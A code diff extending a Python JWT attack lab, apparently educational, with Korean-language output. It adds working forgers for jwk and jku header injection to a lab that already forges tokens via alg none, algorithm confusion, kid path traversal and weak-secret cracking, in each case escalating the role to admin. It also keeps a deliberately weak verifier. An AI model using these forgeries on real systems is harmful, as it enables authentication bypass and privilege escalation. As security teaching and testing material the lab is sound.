@@ -11,6 +11,7 @@ from __future__ import annotations
 import hashlib
 import hmac
 import html
+import json
 import random
 import time
 import warnings
@@ -42,6 +43,11 @@ __all__ = [
     "forge_hs256",
     "forge_alg_confusion",
     "forge_kid_path",
+    "forge_jwk_header",
+    "forge_jku",
+    "attacker_key",
+    "attacker_jwks",
+    "token_diff",
     "ATTACKS",
     "AttackOutcome",
     "AttackLab",
@@ -159,6 +165,75 @@ def forge_kid_path(token: str, **changes) -> str:
     return forge_hs256(token, b"", header_changes={"kid": KID_TRAVERSAL}, **changes)
 
 
+ATTACKER_KID = "rs256-1"  # the victim's real kid: a verifier that trusts the header's key never looks it up
+
+
+def attacker_key():
+    """The attacker's own RSA key pair (nothing of the victim's)."""
+    from cryptography.hazmat.primitives.asymmetric import rsa
+
+    return rsa.generate_private_key(public_exponent=65537, key_size=2048)
+
+
+def _public_jwk(private_key, kid: str = ATTACKER_KID) -> dict:
+    import jwt
+
+    jwk = json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(private_key.public_key()))
+    return {**jwk, "kid": kid, "alg": "RS256", "use": "sig"}
+
+
+def attacker_jwks(private_key, kid: str = ATTACKER_KID) -> dict:
+    """The key set (JWKS, RFC 7517 §5) the attacker serves for a ``jku`` header."""
+    return {"keys": [_public_jwk(private_key, kid)]}
+
+
+def _sign_rs256(header: dict, payload: dict, private_key) -> str:
+    import jwt
+
+    extra = {k: v for k, v in header.items() if k not in ("alg", "typ")}
+    return jwt.encode(payload, private_key, algorithm="RS256", headers={"typ": header.get("typ"), **extra})
+
+
+def forge_jwk_header(token: str, private_key, **changes) -> str:
+    """Sign with the attacker's key and embed its public half as the header's ``jwk`` (RFC 7515 §4.1.3)."""
+    header, payload, _ = split_token(token)
+    new_header = {**header, "alg": "RS256", "kid": ATTACKER_KID, "jwk": _public_jwk(private_key)}
+    return _sign_rs256(new_header, {**payload, **changes}, private_key)
+
+
+def forge_jku(token: str, private_key, jku_url: str, **changes) -> str:
+    """Sign with the attacker's key; the header's ``jku`` (RFC 7515 §4.1.2) points at the attacker's key set."""
+    header, payload, _ = split_token(token)
+    new_header = {**header, "alg": "RS256", "kid": ATTACKER_KID, "jku": jku_url}
+    return _sign_rs256(new_header, {**payload, **changes}, private_key)
+
+
+def _short(value) -> str:
+    """A header value for display: long strings (a JWK's modulus) shortened to their length."""
+    if isinstance(value, dict):
+        return "{" + ", ".join(f"{k}: {_short(v)}" for k, v in value.items()) + "}"
+    if (
+        isinstance(value, str) and len(value) > 40
+    ):  # a path keeps its start; key material shows its length only
+        return f"'{value[:6]}…'({len(value)}자)" if "/" in value else f"'…'({len(value)}자)"
+    return repr(value)
+
+
+def token_diff(original: str, forged: str) -> list[str]:
+    """What changed between two tokens: each segment's length, and each header field and claim."""
+    lines = []
+    (h0, p0, _), (h1, p1, _) = split_token(original), split_token(forged)
+    for name, seg0, seg1 in zip(("header", "payload", "signature"), original.split("."), forged.split(".")):
+        lines.append(f"{name:<9}: {len(seg0)}자 → {len(seg1)}자" + ("" if seg0 != seg1 else " (그대로)"))
+    for part, a, b in (("header", h0, h1), ("payload", p0, p1)):
+        for key in [*a, *(k for k in b if k not in a)]:
+            if a.get(key) != b.get(key):
+                lines.append(
+                    f"  {part}.{key}: {_short(a.get(key, '(없음)'))} → {_short(b.get(key, '(없음)'))}"
+                )
+    return lines
+
+
 # --- the lab ------------------------------------------------------------------------------
 
 ATTACKS = {
@@ -168,6 +243,8 @@ ATTACKS = {
     "alg_confusion": ("알고리즘 혼동 (RS256 공개 키 → HS256)", "alg_from_header"),
     "no_exp": ("만료(exp) 미확인", "no_exp"),
     "kid_path": ("kid 경로 조작 (path traversal)", "kid_path"),
+    "jwk_header": ("jwk 헤더 주입 (공격자 키 내장)", "jwk_header"),
+    "jku_header": ("jku 헤더 주입 (공격자 키 서버)", "jku_header"),
 }
 
 
@@ -182,6 +259,22 @@ class AttackOutcome:
     secure_code: str
     secure_reason: str
     http_status: int | None = None
+    original: str = ""  # the genuine token the forgery started from
+    token: str = ""  # the forged token sent to the secure verifier and app
+    http_answer: dict = field(default_factory=dict)  # the secure app's JSON answer
+    www_authenticate: str = ""
+
+    def details(self) -> str:
+        """The forged token next to its original (what changed), and the secure app's answer."""
+        h, p, _ = split_token(self.token)
+        lines = [f"위조 토큰 header : {_short(h)}"]
+        lines.append(f"위조 토큰 payload: sub={p.get('sub')!r}, role={p.get('role')!r}, typ={p.get('typ')!r}")
+        lines += ["원본과 다른 곳:", *token_diff(self.original, self.token)]
+        if self.http_status is not None:
+            body = {k: self.http_answer[k] for k in ("code", "reason") if k in self.http_answer}
+            lines.append(f"보안 앱의 대답: HTTP {self.http_status} {body}")
+            lines.append(f"  WWW-Authenticate: {self.www_authenticate}")
+        return "\n".join(lines)
 
     @property
     def as_expected(self) -> bool:
@@ -229,8 +322,11 @@ class AttackLab:
     results: dict = field(default_factory=dict)
     cracked: dict = field(default_factory=dict)
     pyjwt_warnings: list = field(default_factory=list)
+    attacker_url: str | None = None  # where the attacker serves its key set (for the jku attack)
+    last_original: str = ""
 
     def __post_init__(self):
+        self.attacker_key = attacker_key()
         self.weak_secret = weak_secret(self.words)
         # ⚠️ VULNERABLE: correct code, but a guessable HS256 secret.
         self.weak = TokenService(keys={"HS256": hmac_key(self.weak_secret)}, alg="HS256")
@@ -254,23 +350,40 @@ class AttackLab:
         return {k: v[1] for k, v in self.cracked.items()}
 
     def forge(self, name: str) -> tuple[str, str, object]:
-        """(token for the vulnerable side, token for the secure side, vulnerable verifier)."""
+        """(token for the vulnerable side, token for the secure side, vulnerable verifier).
+
+        The genuine token the secure-side forgery started from is kept in ``self.last_original``.
+        """
         admin: dict[str, Any] = {"role": "admin"}
+        victim = self.victim_token()
+        self.last_original = victim
+        if name == "jwk_header":
+            t = forge_jwk_header(victim, self.attacker_key, **admin)
+            return t, t, self.vulnerable("jwk_header")
+        if name == "jku_header":
+            if not self.attacker_url:
+                raise ValueError(
+                    "jku 공격에는 공격자의 키 서버가 필요합니다: lab.attacker_url = 공격자 서버 URL"
+                )
+            t = forge_jku(victim, self.attacker_key, f"{self.attacker_url.rstrip('/')}/jwks.json", **admin)
+            return t, t, self.vulnerable("jku_header")
         if name == "no_signature":
-            t = tamper(self.victim_token(), **admin)
+            t = tamper(victim, **admin)
             return t, t, self.vulnerable("no_signature")
         if name == "alg_none":
-            t = forge_alg_none(self.victim_token(), **admin)
+            t = forge_alg_none(victim, **admin)
             return t, t, self.vulnerable("alg_none")
         if name == "alg_confusion":
             pem = self.secure.keys["RS256"].public_pem()  # public: anyone can fetch it
-            t = forge_alg_confusion(self.victim_token("RS256"), pem, **admin)
+            self.last_original = self.victim_token("RS256")
+            t = forge_alg_confusion(self.last_original, pem, **admin)
             return t, t, self.vulnerable("alg_from_header")
         if name == "no_exp":  # an old admin token, e.g. from a log file, expired an hour ago
             t = self.secure.issue("admin", role="admin", now=time.time() - 7200, ttl=3600)
+            self.last_original = t  # genuine: nothing forged, only replayed
             return t, t, self.vulnerable("no_exp")
         if name == "kid_path":
-            t = forge_kid_path(self.victim_token(), **admin)
+            t = forge_kid_path(victim, **admin)
             return t, t, self.vulnerable("kid_path")
         if name == "weak_secret":
             if not self.cracked:
@@ -279,6 +392,7 @@ class AttackLab:
             strong_token, strong_result = self.cracked["secure"]
             t_weak = forge_hs256(weak_token, weak_result.secret or "secret", **admin)
             t_strong = forge_hs256(strong_token, strong_result.secret or self.words[0], **admin)
+            self.last_original = strong_token
             return t_weak, t_strong, self.weak.verifier
         raise KeyError(f"알 수 없는 공격: {name} (가능: {', '.join(ATTACKS)})")
 
@@ -291,13 +405,16 @@ class AttackLab:
         with _quiet_short_keys(self.pyjwt_warnings):
             accepted, detail = _attempt(vuln, for_vuln, want)
         s_ok, s_code = _attempt(self.secure.verifier, for_secure, lambda c: True)
-        status = None
+        status, challenge = None, ""
+        answer: dict = {}
         if self.app_url:
             import requests
 
-            status = requests.get(
+            r = requests.get(
                 f"{self.app_url}/admin", timeout=5, headers={"Authorization": f"Bearer {for_secure}"}
-            ).status_code
+            )
+            status, challenge = r.status_code, r.headers.get("WWW-Authenticate", "")
+            answer = r.json() if r.headers.get("Content-Type", "").startswith("application/json") else {}
         reason = TokenError(s_code).reason if not s_ok else ""
         out = AttackOutcome(
             name,
@@ -309,6 +426,10 @@ class AttackLab:
             s_code if not s_ok else "accepted",
             reason,
             status,
+            original=self.last_original,
+            token=for_secure,
+            http_answer=answer,
+            www_authenticate=challenge,
         )
         self.results[name] = out
         return out
